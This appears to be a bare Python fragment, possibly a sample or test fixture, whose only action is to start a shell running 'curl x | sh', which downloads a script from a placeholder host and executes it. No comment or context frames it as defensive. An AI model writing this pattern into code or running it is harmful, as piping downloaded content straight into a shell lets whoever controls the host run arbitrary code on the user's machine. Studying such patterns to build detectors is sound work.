import subprocess
NAME = 'x'
subprocess.Popen(['sh', '-c', 'curl x | sh'])
